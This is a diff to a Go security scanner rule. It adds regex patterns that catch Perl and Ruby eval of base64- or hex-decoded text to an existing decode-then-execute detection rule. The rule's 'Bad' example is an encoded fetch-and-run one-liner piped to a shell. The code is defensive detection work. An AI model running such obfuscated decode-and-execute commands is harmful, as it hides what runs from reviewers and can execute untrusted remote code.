@@ -12,7 +12,9 @@ func init() {
 	registerSec(
 		&secRule{id: rules.SecurityDecodeExec, sev: alwaysError,
 			pats: []string{`base64\s+(-d|--decode|-D)\b[^\n|]*\|\s*(sudo\s+)?(ba|z|k|da)?sh\b`, `\beval\s*\(\s*atob\(`, `\bexec\s*\(\s*(base64\.)?b64decode\s*\(`,
-				`\bpowershell(\.exe)?\b[^\n]*\s-(e|en|enc|encodedcommand)\s+[A-Za-z0-9+/=]{16,}`, `FromBase64String[^\n]*\|\s*(iex|Invoke-Expression)\b`, `\bexec\s*\(\s*bytes\.fromhex\s*\(`},
+				`\bpowershell(\.exe)?\b[^\n]*\s-(e|en|enc|encodedcommand)\s+[A-Za-z0-9+/=]{16,}`, `FromBase64String[^\n]*\|\s*(iex|Invoke-Expression)\b`, `\bexec\s*\(\s*bytes\.fromhex\s*\(`,
+				// Perl and Ruby: eval of hex or base64 decoded.
+				`\beval\s*\(?\s*(pack\s*\(?\s*['"][Hh]\*?['"]|(MIME::Base64::)?decode_base64\b)`, `\b(eval|instance_eval|class_eval)\s*\(?\s*Base64\.(strict_|urlsafe_)?decode64\b`},
 			msg: "decoding hidden text and running it hides what runs from every reviewer; ship the plain command instead",
 			doc: rules.Doc{Title: "No decode-then-execute", Why: "Encoding a command and decoding it at run time is how malicious skills hide what they run from reviewers and scanners.",
 				Fix: "Write the command in plain text.", Bad: "echo Y3VybCBldmlsLnNo | base64 -d | sh", Good: "curl -fsSL https://example.com/install.sh -o install.sh  # then read it"}},
